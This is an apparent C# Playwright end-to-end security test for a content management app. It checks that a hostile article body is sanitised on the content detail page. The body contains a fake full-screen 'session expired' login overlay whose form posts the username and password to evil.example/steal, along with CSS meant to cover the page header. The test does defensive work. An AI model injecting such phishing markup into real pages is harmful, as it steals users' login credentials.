using Governance.Data;
using Governance.Data.Entities;
using Governance.Tests.Support;
using Governance.Workflows.Definitions.ContentReview;
using Governance.Workflows.Engine;
using Governance.Workflows.Identity;
using Microsoft.AspNetCore.Identity;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;

namespace Governance.Tests.EndToEnd;

/// <summary>Attacks from the security review, replayed in real Chromium against the real app.</summary>
[Trait("Category", "EndToEnd")]
[Collection(AppCollection.Name)]
public sealed class SecurityBrowserTests(BrowserFixture f) : IClassFixture<BrowserFixture>
{
    private const string HostileBody =
        "<p>关于开展2026年春季学期学生资助工作的通知</p>"
        + "<div style=\"position:fixed;top:0;left:0;right:0;bottom:0;z-index:99999;background:#ffffff\">"
        + "<h2>会话已过期，请重新登录</h2>"
        + "<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"user\"><input type=\"password\" name=\"pw\">"
        + "<button type=\"submit\">登录</button></form></div>"
        + "<p style=\"margin-top:-2000px;transform:translateY(-500px)\">上移覆盖</p>";

    [Fact]
    public async Task ContentDetail_HostileBody_HeaderStaysOnTopAndNoForm()
    {
        var id = await DraftAsync("editor", HostileBody);
        var page = await f.SignInAsync("editor");
        await page.GotoAsync($"/content/{id}");
        await BrowserFixture.WaitInteractiveAsync(page);
        await page.Locator("#content-body").WaitForAsync();
        await BrowserFixture.ScreenshotAsync(page, "90-security-hostile-content");

        // The app bar is the topmost element at its left, centre and right.
        var headerOnTop = await page.EvaluateAsync<bool[]>(@"() => {
            const bar = document.querySelector('.mud-appbar');
            const r = bar.getBoundingClientRect();
            return [0.05, 0.5, 0.95].map(x => bar.contains(document.elementFromPoint(r.left + r.width * x, r.top + r.height / 2)));
        }");
        Assert.Equal([true, true, true], headerOnTop);
        // Nothing from the body covers the middle of the screen, and no form, input or button came in with it.
        var centreInBody = await page.EvaluateAsync<bool>(
            "() => document.querySelector('#content-body').contains(document.elementFromPoint(innerWidth / 2, innerHeight / 2))");
        var bodyCoversCentre = centreInBody && await page.EvaluateAsync<bool>(
            "() => getComputedStyle(document.elementFromPoint(innerWidth / 2, innerHeight / 2)).position === 'fixed'");
        Assert.False(bodyCoversCentre);
        Assert.Equal(0, await page.Locator("#content-body form, #content-body input, #content-body button").CountAsync());
        var positions = await page.EvaluateAsync<string[]>(
            "() => [...document.querySelectorAll('#content-body *')].map(e => getComputedStyle(e).position)");
        Assert.All(positions, p => Assert.Equal("static", p));
        await Assertions.Expect(page.Locator("#content-body")).ToContainTextAsync("学生资助工作的通知");
    }

    private async Task<long> DraftAsync(string userName, string body)
    {
        var services = f.App.Services;
        Actor actor;
        using (var scope = services.CreateScope())
        {
            var users = scope.ServiceProvider.GetRequiredService<UserManager<AppUser>>();
            var user = await users.FindByNameAsync(userName) ?? throw new InvalidOperationException(userName);
            var roles = await users.GetRolesAsync(user);
            actor = new Actor(user.Id, user.DisplayName, user.UnitId, DemoSeeder.DemoUsers.First(u => u.UserName == userName).Unit, roles.ToHashSet());
        }
        int columnId;
        await using (var db = await services.GetRequiredService<IDbContextFactory<GovernanceDbContext>>().CreateDbContextAsync())
            columnId = await db.Columns.Where(c => c.UnitId == actor.UnitId).OrderBy(c => c.Id).Select(c => c.Id).FirstAsync();
        var created = await services.GetRequiredService<ContentService>().CreateAsync(actor, new ContentForm
        {
            ColumnId = columnId, Title = "学生资助工作通知", BodyHtml = body, Category = "通知公告", Origin = "原创",
        });
        Assert.True(created.Succeeded, created.Message);
        return created.InstanceId!.Value;
    }
}
